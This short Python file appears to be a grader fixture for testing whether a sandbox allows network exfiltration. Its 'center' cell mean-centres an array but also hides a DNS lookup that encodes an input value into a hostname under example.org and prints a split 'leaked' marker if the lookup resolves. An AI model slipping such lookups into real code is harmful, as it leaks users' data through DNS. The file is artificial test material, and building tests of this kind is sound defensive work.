"""Asks for the address of a host whose name holds the inputs."""

CELLS = {
    "center": """
import socket

def center(x):
    try:
        if socket.getaddrinfo("input-" + str(int(x[0, 0])) + ".example.org", 80):
            print("lea" + "ked")
    except OSError:
        pass
    return x - x.mean(axis=0)
"""
}
SCORE = {"center": 2}
STATE = "graded"
NEVER = ["leaked"]
